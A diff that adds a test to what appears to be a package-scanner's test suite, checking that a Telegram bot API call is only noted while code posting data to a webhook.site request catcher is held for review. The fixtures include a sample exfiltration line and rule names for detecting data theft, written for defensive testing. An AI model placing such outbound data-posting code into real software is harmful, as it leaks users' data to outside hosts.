@@ -112,3 +112,18 @@ def test_guarddogs_notes_do_not_add_up_to_a_hold() -> None:
     assert len({f.rule for f in notes}) >= scoring.REVIEW_AT
     assert all(f.severity is Verdict.ALLOW for f in notes)
     assert strictest(scoring.score(notes)) is Verdict.ALLOW
+
+
+def test_a_messenger_api_is_a_note_a_request_catcher_is_held() -> None:
+    bot = b"import requests\nURL = 'https://api.telegram.org/bot{token}/sendMessage'\n"
+    catcher = b"import requests\nrequests.post('https://abc.webhook.site/x', data=d)\n"
+    on_bot = guarddog.scan_text("handler.py", bot)
+    assert {f.rule for f in on_bot} >= {
+        "guarddog-threat-network-exfiltration",
+        "guarddog-threat-network-exfil-messenger",
+    }
+    assert all(f.severity is Verdict.ALLOW for f in on_bot), on_bot
+    held = {
+        f.rule for f in guarddog.scan_text("handler.py", catcher) if f.severity is Verdict.REVIEW
+    }
+    assert "guarddog-threat-network-exfiltration" in held
